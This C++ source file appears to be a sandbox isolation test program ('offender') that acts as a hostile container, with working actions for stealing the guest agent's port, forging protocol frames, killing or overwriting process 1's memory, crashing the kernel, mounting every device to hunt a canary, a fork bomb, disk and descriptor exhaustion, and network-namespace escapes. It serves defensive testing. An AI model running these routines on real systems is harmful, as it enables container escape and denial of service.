// offender: what a hostile container does. A static program of tests/offenders; each action is one way to hurt the node, the sandbox's
// guest or the front. It says in one line what it could do ("done ..."), or that it was kept from it ("refused <errno name>"), and never
// fails.
#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/reboot.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <random>
#include <set>
#include <string>
#include <vector>

namespace {

void say(const std::string& line) {
  std::string text = line + "\n";
  [[maybe_unused]] ssize_t wrote = write(1, text.data(), text.size());
}

void refused(const char* what) { say(std::string("refused ") + what + " " + strerrorname_np(errno)); }

[[noreturn]] void hold() {
  say("ready");
  for (;;) pause();
}

// Process 1 of the PID namespace that this container was given: the agent where it shares the guest's.
int steal_port() {
  int agent = static_cast<int>(syscall(SYS_pidfd_open, 1, 0));
  if (agent < 0) return -1;
  for (int number = 3; number < 64; ++number) {
    int stolen = static_cast<int>(syscall(SYS_pidfd_getfd, agent, number, 0));
    if (stolen < 0) continue;
    char link[64], target[256];
    snprintf(link, sizeof link, "/proc/self/fd/%d", stolen);
    ssize_t length = readlink(link, target, sizeof target - 1);
    if (length > 0) {
      target[length] = 0;
      if (strstr(target, "vport") || strstr(target, "virtio-ports")) return stolen;
    }
    close(stolen);
  }
  errno = ENODEV;
  return -1;
}

void put32(std::string& to, uint32_t value) { to.append(reinterpret_cast<const char*>(&value), 4); }

// sandbox/mux.h: u32 length, u32 channel, u8 type, 3 zero bytes.
std::string frame(uint32_t channel, uint8_t type, const std::string& payload, uint32_t length) {
  std::string out;
  put32(out, length);
  put32(out, channel);
  out += static_cast<char>(type);
  out.append(3, '\0');
  return out + payload;
}
std::string frame(uint32_t channel, uint8_t type, const std::string& payload = "") {
  return frame(channel, type, payload, static_cast<uint32_t>(payload.size()));
}

// A ttrpc response: u32 big-endian length and stream, type 2, flags 0; {1: status, 2: payload}.
std::string response(uint32_t stream, const std::string& payload) {
  std::string out;
  for (uint32_t value : {static_cast<uint32_t>(payload.size()), stream})
    for (int shift = 24; shift >= 0; shift -= 8) out += static_cast<char>(value >> shift);
  out += '\2';
  out += '\0';
  return out + payload;
}

std::string forged_frames(std::mt19937_64& random) {
  std::string out;
  std::string lie("\x12\x06\x08\x2a\x10\x2a\x18\x2a", 8);  // Response.payload: plausible numbers for whatever was asked
  for (uint32_t stream = 1; stream < 400; stream += 2) out += frame(0, 1, response(stream, lie));
  for (uint32_t channel : {1u, 2u, 3u, 77u, 0xffffffffu})
    for (uint8_t type = 0; type < 8; ++type) out += frame(channel, type, std::string(random() % 300, 'x'));
  out += frame(1, 2, std::string("\xff\xff\xff\xff", 4));                        // credit beyond all sense
  for (int i = 0; i < 200; ++i) out += frame(3, 1, std::string(64 << 10, 'F'));  // more than the credit
  out += frame(0, 3);                                                            // end of the control channel
  out += frame(0, 4);                                                            // reset it
  out += frame(0, 0, "CAISSON1");                                                // and again hello
  out += frame(5, 1, "", 0xffffffff);                                            // a payload of 4 GiB
  return out;
}

int forge(const char* kind) {
  int port = steal_port();
  if (port < 0) {
    refused("port");
    hold();
  }
  say("done port");
  std::random_device device;
  std::mt19937_64 random(device());
  std::string bytes;
  if (strcmp(kind, "garbage") == 0) {
    for (int i = 0; i < 1 << 17; ++i) bytes.append(reinterpret_cast<const char*>(std::vector<uint64_t>{random()}.data()), 8);
  } else {
    bytes = forged_frames(random);
  }
  // Blocking or not, for as long as the host takes it: the agent's own frames are between ours.
  for (size_t done = 0; done < bytes.size();) {
    ssize_t wrote = write(port, bytes.data() + done, bytes.size() - done);
    if (wrote > 0)
      done += static_cast<size_t>(wrote);
    else if (errno == EAGAIN)
      usleep(1000);
    else
      break;
  }
  say("done " + std::string(kind));
  hold();
}

// Everything that may end process 1: signals, its memory, its threads.
int kill_agent(const char*) {
  for (int signal : {SIGKILL, SIGSTOP, SIGSEGV, SIGBUS, SIGABRT, SIGTERM, SIGHUP})
    if (kill(1, signal) != 0) refused("kill");
  std::ifstream maps("/proc/1/maps");
  std::string line;
  int memory = open("/proc/1/mem", O_RDWR | O_CLOEXEC);
  if (memory < 0) refused("memory");
  while (memory >= 0 && std::getline(maps, line)) {
    unsigned long from = 0, to = 0;
    if (sscanf(line.c_str(), "%lx-%lx", &from, &to) != 2 || line.find(" r-xp") == std::string::npos) continue;
    std::string zeros(to - from, '\0');
    if (pwrite(memory, zeros.data(), zeros.size(), static_cast<off_t>(from)) > 0) say("done memory");
  }
  hold();
}

// The kernel itself, by its own doors.
int crash(const char* kind) {
  if (strcmp(kind, "sysrq") == 0) {
    mkdir("/tmp/p", 0755);
    mount("proc", "/tmp/p", "proc", 0, nullptr);
    int trigger = open("/tmp/p/sysrq-trigger", O_WRONLY | O_CLOEXEC);
    if (trigger < 0 || write(trigger, "c", 1) != 1) refused("sysrq");
  } else if (reboot(RB_POWER_OFF) != 0) {
    refused("reboot");
  }
  hold();
}

// Leaves a mark in a mounted file system, and looks for the canary that the test has put on the node.
void probe(const std::string& folder, const std::string& canary) {
  int mark = open((folder + "/offender-was-here").c_str(), O_CREAT | O_WRONLY | O_CLOEXEC, 0644);
  if (mark >= 0) {
    say("done mark " + folder);
    close(mark);
  }
  std::vector<std::pair<std::string, int>> folders = {{folder, 0}};
  size_t seen = 0;
  while (!folders.empty() && seen < 20000) {
    auto [at, depth] = folders.back();
    folders.pop_back();
    DIR* directory = opendir(at.c_str());
    if (!directory) continue;
    while (dirent* entry = readdir(directory)) {
      ++seen;
      std::string name = entry->d_name;
      if (name == canary) say("FOUND " + at + "/" + name);
      if (entry->d_type == DT_DIR && depth < 6 && name != "." && name != ".." && name != "proc" && name != "sys")
        folders.push_back({at + "/" + name, depth + 1});
    }
    closedir(directory);
  }
}

void try_mount(const std::string& source, const std::string& type, const std::string& data, const std::string& canary) {
  static int count = 0;
  std::string target = "/tmp/m" + std::to_string(++count);
  mkdir(target.c_str(), 0755);
  if (mount(source.c_str(), target.c_str(), type.c_str(), 0, data.c_str()) != 0) return;
  say("done mount " + source + " " + type);
  probe(target, canary);
}

std::string first_line(const std::string& file) {
  std::ifstream in(file);
  std::string line;
  std::getline(in, line, '\0');
  while (!line.empty() && line.back() == '\n') line.pop_back();
  return line;
}

// Every device with every file system, every kind of file system without a device, every shared folder by every tag that can be guessed or
// read.
int mount_everything(const char* canary) {
  mkdir("/tmp/sys", 0755);
  mount("sysfs", "/tmp/sys", "sysfs", 0, nullptr);
  std::set<std::string> tags = {"caisson", "share", "shared", "root", "rootfs", "kataShared", "/dev/root", "hostshare", "0"};
  std::vector<std::string> devices, plain;
  if (DIR* blocks = opendir("/tmp/sys/class/block")) {
    while (dirent* entry = readdir(blocks)) {
      int major = 0, minor = 0;
      if (sscanf(first_line(std::string("/tmp/sys/class/block/") + entry->d_name + "/dev").c_str(), "%d:%d", &major, &minor) != 2) continue;
      std::string node = std::string("/tmp/") + entry->d_name;
      mknod(node.c_str(), S_IFBLK | 0600, makedev(static_cast<unsigned>(major), static_cast<unsigned>(minor)));
      devices.push_back(node);
    }
    closedir(blocks);
  }
  if (DIR* bus = opendir("/tmp/sys/bus/virtio/devices")) {
    while (dirent* entry = readdir(bus))
      for (const char* file : {"/mount_tag", "/tag"})
        if (std::string tag = first_line(std::string("/tmp/sys/bus/virtio/devices/") + entry->d_name + file); !tag.empty())
          tags.insert(tag);
    closedir(bus);
  }
  std::ifstream types("/proc/filesystems");
  for (std::string line; std::getline(types, line);) {
    bool nodev = line.starts_with("nodev");
    std::string type = line.substr(line.find('\t') + 1);
    if (nodev)
      plain.push_back(type);
    else
      for (const std::string& device : devices) try_mount(device, type, "", canary);
  }
  for (const std::string& type : plain) try_mount("none", type, "", canary);
  for (const std::string& tag : tags) {
    try_mount(tag, "9p", "trans=virtio,version=9p2000.L", canary);
    try_mount(tag, "virtiofs", "", canary);
  }
  say("done everything");
  hold();
}

int fill(const char* folder) {
  std::string block(1 << 20, 'x');
  uint64_t total = 0;
  int full = 0;
  for (int i = 0; full == 0 && i < 1 << 14; ++i) {
    int file = open((std::string(folder) + "/fill" + std::to_string(i)).c_str(), O_CREAT | O_WRONLY | O_CLOEXEC, 0600);
    if (file < 0) {
      full = errno;
      break;
    }
    for (int k = 0; k < 16; ++k) {
      ssize_t wrote = write(file, block.data(), block.size());
      if (wrote > 0) total += static_cast<uint64_t>(wrote);
      if (wrote < 0) {
        full = errno;
        break;
      }
    }
    close(file);
  }
  say("done fill " + std::to_string(total >> 20) + " MiB " + (full ? strerrorname_np(full) : "endless"));
  hold();
}

int descriptors(const char*) {
  rlimit limit{1 << 20, 1 << 20};
  if (setrlimit(RLIMIT_NOFILE, &limit) != 0) {
    getrlimit(RLIMIT_NOFILE, &limit);
    limit.rlim_cur = limit.rlim_max;
    setrlimit(RLIMIT_NOFILE, &limit);
  }
  int count = 0;
  // In several processes, as the limit is one process's, and the kernel's table is everybody's.
  for (int process = 0; process < 8; ++process) {
    if (fork() != 0) continue;
    while (open("/dev/null", O_RDONLY | O_CLOEXEC) >= 0) ++count;
    say("done descriptors " + std::to_string(count) + " " + strerrorname_np(errno));
    for (;;) pause();
  }
  hold();
}

int fork_bomb(const char*) {
  signal(SIGCHLD, SIG_IGN);
  bool told = false;
  for (;;) {
    pid_t child = fork();
    if (child < 0 && !told) {
      told = true;
      refused("fork");
      say("ready");
    }
    if (child < 0) usleep(1000);
  }
}

int flood(const char*) {
  std::string block(1 << 16, 'y');
  for (size_t i = 99; i < block.size(); i += 100) block[i] = '\n';
  for (;;)
    for (int fd : {1, 2})
      if (write(fd, block.data(), block.size()) < 0 && errno != EINTR && errno != EAGAIN) return 0;
}

int hog(const char*) {
  for (;;) {
    char* block = static_cast<char*>(malloc(1 << 20));
    if (!block) return 1;
    for (size_t i = 0; i < 1 << 20; i += 4096) block[i] = 1;
  }
}

// Nobody outside the network namespace that it is in by now.
void look_out(const sockaddr_in& outside, int others) {
  const int probe = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  ifreq up{};
  strcpy(up.ifr_name, "lo");
  up.ifr_flags = IFF_UP;
  if (ioctl(probe, SIOCSIFFLAGS, &up) != 0) refused("loopback");
  if (connect(probe, reinterpret_cast<const sockaddr*>(&outside), sizeof outside) == 0)
    say("done connected outside");
  else
    refused("connect");
  // Its own loopback device into the network that process 1 is in, and into the one of a descriptor.
  for (const auto& [attribute, value] : {std::pair<uint16_t, int>(IFLA_NET_NS_PID, 1), {IFLA_NET_NS_FD, others}}) {
    const int routes = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
    struct {
      nlmsghdr header;
      ifinfomsg link;
      rtattr attribute;
      int value;
    } request{};
    request.header = {sizeof request, RTM_NEWLINK, NLM_F_REQUEST | NLM_F_ACK, 1, 0};
    request.link.ifi_index = 1;
    request.attribute = {sizeof(rtattr) + sizeof(int), attribute};
    request.value = value;
    struct {
      nlmsghdr header;
      nlmsgerr error;
      char rest[512];
    } answer{};
    if (send(routes, &request, sizeof request, 0) < 0 || recv(routes, &answer, sizeof answer, 0) < 0) return refused("netlink");
    errno = -answer.error.error;
    if (errno == 0)
      say("done moved the loopback device");
    else
      refused("move");
    close(routes);
  }
}

// Network namespaces: one after another, ways out of one, and as many at once as there may be.
int networks(const char*) {
  constexpr int kChurn = 300;
  sockaddr_in outside{};
  outside.sin_family = AF_INET;
  outside.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  socklen_t length = sizeof outside;
  const int listening = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (listen(listening, 4) != 0 || getsockname(listening, reinterpret_cast<sockaddr*>(&outside), &length) != 0) refused("listen");
  outside.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  const int own = open("/proc/self/ns/net", O_RDONLY | O_CLOEXEC);
  for (int i = 0; i < kChurn; ++i) {
    const pid_t child = fork();
    if (child == 0) _exit(unshare(CLONE_NEWNET) == 0 ? 0 : errno);
    int status = 0;
    waitpid(child, &status, 0);
    if (WEXITSTATUS(status) != 0 && WEXITSTATUS(status) != ENOSPC) {
      errno = WEXITSTATUS(status);
      refused("churn");
    }
  }
  std::vector<int> held;
  while (unshare(CLONE_NEWNET) == 0) {
    if (held.empty()) look_out(outside, own);
    held.push_back(open("/proc/self/ns/net", O_RDONLY | O_CLOEXEC));
  }
  refused("another");
  say("done " + std::to_string(held.size()) + " networks");
  hold();
}

}  // namespace

int main(int argc, char** argv) {
  signal(SIGPIPE, SIG_IGN);
  struct {
    const char* name;
    int (*action)(const char*);
  } actions[] = {{"forge", forge}, {"kill-agent", kill_agent},   {"crash", crash},         {"mount-everything", mount_everything},
                 {"fill", fill},   {"descriptors", descriptors}, {"fork-bomb", fork_bomb}, {"flood", flood},
                 {"hog", hog},     {"networks", networks}};
  for (const auto& each : actions)
    if (argc > 1 && strcmp(argv[1], each.name) == 0) return each.action(argc > 2 ? argv[2] : "");
  fputs("usage: offender ACTION [ARGUMENT]\n", stderr);
  return 64;
}
